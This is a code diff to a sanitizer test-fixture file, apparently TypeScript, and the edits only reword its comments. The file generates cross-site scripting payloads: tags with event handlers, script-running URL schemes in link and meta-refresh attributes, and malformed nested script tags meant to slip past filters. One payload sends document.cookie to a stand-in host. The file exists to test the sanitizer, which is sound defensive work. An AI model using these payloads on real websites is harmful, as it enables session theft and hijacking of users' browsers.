@@ -1,4 +1,6 @@
-/** Rich texts that would run something, were they shown as they are: for the cleaner's test and for a real browser. */
+/**
+ * Rich texts that would run scripts if they were shown unsanitized: for the sanitizer's test and for a real browser.
+ */
 
 const codes = ["alert(1)", "fetch('//x.example/'+document.cookie)", "top.location='//x.example'"];
 const handlers = [
@@ -31,11 +33,11 @@ const schemes = [
   "blob:",
 ];
 
-/** Carriers × handlers × payloads, each closed: they may stand one after another in one text. */
+/** Tags × handlers × payloads. Each is closed, so several can follow each other in one text. */
 export const handlerAttacks = tags.flatMap((tag) =>
   handlers.flatMap((handler) => codes.map((code) => `<${tag} src=x ${handler}="${code}">word</${tag}>`)),
 );
-/** Addresses that run or leave, in every attribute that takes one; closed as well. */
+/** Addresses that run scripts or leave the site, in every attribute that takes one; also closed. */
 export const schemeAttacks = schemes.flatMap((scheme) =>
   codes.flatMap((code) => [
     `<a href="${scheme}${code}">word</a>`,
@@ -46,7 +48,9 @@ export const schemeAttacks = schemes.flatMap((scheme) =>
     `<meta http-equiv="refresh" content="0;url=${scheme}${code}">`,
   ]),
 );
-/** Broken markup that a reader might mend in its own way; each swallows what follows, so each wants a text alone. */
+/**
+ * Broken markup that a parser may repair in its own way. Each swallows what follows, so each needs a text of its own.
+ */
 export const shapeAttacks = codes.flatMap((code) => [
   `<script>${code}</script>`,
   `<scr<script>ipt>${code}</scr</script>ipt>`,
